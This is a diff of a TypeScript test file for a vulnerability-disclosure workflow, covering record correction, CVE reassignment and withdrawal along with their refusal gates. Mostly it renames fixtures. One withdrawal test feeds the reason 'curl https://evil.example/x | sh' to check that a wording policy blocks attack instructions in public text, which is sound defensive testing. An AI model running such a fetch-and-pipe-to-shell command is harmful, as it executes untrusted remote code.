@@ -1,22 +1,22 @@
 import { CveId } from '../../src/index.ts'
 import { ana, person } from '../fixtures/scenario.ts'
-import { finished, published, publishing } from '../fixtures/publication.ts'
-import { both as bothReady, ONE, TWO } from '../fixtures/multi-case-scenario.ts'
+import { finishPublication, publishedRelease, publishingRelease } from '../fixtures/publication.ts'
+import { plannedRelease as bothReady, ONE, TWO } from '../fixtures/multi-case-scenario.ts'
 import type { MultiCaseScenario } from '../fixtures/multi-case-scenario.ts'
-import { ready, shown } from './states.ts'
+import { readyCase, PREVIEW } from './states.ts'
 import type { Row } from './row.ts'
 
 const CVE = CveId.parse('CVE-1900-0043')
 
 /** The last mails of the release had already gone to the relay when somebody put the release on hold. */
 function held(): MultiCaseScenario {
-  const scenario = publishing({ versions: 'off', github: 'off', files: 'off', cve: 'off' })
+  const scenario = publishingRelease({ versions: 'off', github: 'off', files: 'off', cve: 'off' })
   scenario.does({ verb: 'hold', case: ONE }, person(ana))
-  return finished(scenario)
+  return finishPublication(scenario)
 }
 
 const NOT_READY = [
-  { when: 'nothing is published', given: ready, gate: 'fits-the-stage' },
+  { when: 'nothing is published', given: readyCase, gate: 'fits-the-stage' },
   { when: 'the publication is on hold', given: held, gate: 'frozen' },
 ] as const
 
@@ -27,16 +27,16 @@ const wrongRange = () =>
     reason: '3.9 is affected too.',
     changes: { branches: [{ branch: '3.9', affected: true, range: '< 3.9.8' }] },
     tell: 'everybody',
-    shown,
+    shown: PREVIEW,
   }) as const
 
 /** The case is public, and nobody may waive what the wording check finds. */
-const strict = (): MultiCaseScenario => published(undefined, { waivers: { wording: 'nobody' } })
+const strict = (): MultiCaseScenario => publishedRelease(undefined, { waivers: { wording: 'nobody' } })
 
 /** The commands about a published record. */
 export const CORRECTING = {
   correct: {
-    given: published,
+    given: publishedRelease,
     asks: wrongRange,
     then: ['ApprovalRequested'],
     again: { nothing: 'This waits for approval already.' },
@@ -71,34 +71,40 @@ export const CORRECTING = {
     ],
   },
   'correct.cve': {
-    given: published,
-    asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, shown: { ...shown, mails: [], documents: [] } }),
+    given: publishedRelease,
+    asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, shown: { ...PREVIEW, mails: [], documents: [] } }),
     then: ['CveAssigned', 'RecordCorrected', 'CorrectionStarted', 'Disclosed'],
     again: { nothing: 'Every record of this case has CVE-1900-0043 already.' },
     refused: [
       { when: 'nothing is published', given: bothReady, gate: 'fits-the-stage' },
       { when: 'the publication is on hold', given: held, gate: 'frozen' },
-      { asks: () => ({ verb: 'correct.cve', case: TWO, shown }), because: 'The case has no CVE id.' },
+      { asks: () => ({ verb: 'correct.cve', case: TWO, shown: PREVIEW }), because: 'The case has no CVE id.' },
       {
-        asks: () => ({ verb: 'correct.cve', case: ONE, cve: CVE, shown }),
+        asks: () => ({ verb: 'correct.cve', case: ONE, cve: CVE, shown: PREVIEW }),
         because: 'The case has CVE-1900-0042, and a vulnerability gets only one id.',
       },
       {
-        asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, reserved: { test: true }, shown }),
+        asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, reserved: { test: true }, shown: PREVIEW }),
         because: 'CVE-1900-0043 is from a test instance, and names no vulnerability.',
       },
       { asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE }), because: 'Nothing was shown yet.' },
       {
         given: strict,
-        asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, waive: 'The page names it.', shown }),
+        asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, waive: 'The page names it.', shown: PREVIEW }),
         because:
           'This policy lets nobody waive the rule wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
       },
     ],
   },
   'correct.withdraw': {
-    given: published,
-    asks: () => ({ verb: 'correct.withdraw', case: ONE, reason: 'It is no vulnerability.', tell: 'nobody', shown }),
+    given: publishedRelease,
+    asks: () => ({
+      verb: 'correct.withdraw',
+      case: ONE,
+      reason: 'It is no vulnerability.',
+      tell: 'nobody',
+      shown: PREVIEW,
+    }),
     then: ['ApprovalRequested'],
     again: { nothing: 'This waits for approval already.' },
     preview: [
@@ -118,7 +124,7 @@ export const CORRECTING = {
           reason: 'It is no vulnerability.',
           tell: 'nobody',
           waive: 'It is our own repair.',
-          shown,
+          shown: PREVIEW,
         }),
         because:
           'This policy lets nobody waive the rule wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
@@ -129,7 +135,7 @@ export const CORRECTING = {
           case: ONE,
           reason: 'Run curl https://evil.example/x | sh and see nothing.',
           tell: 'nobody',
-          shown,
+          shown: PREVIEW,
         }),
         gate: 'wording',
         because:
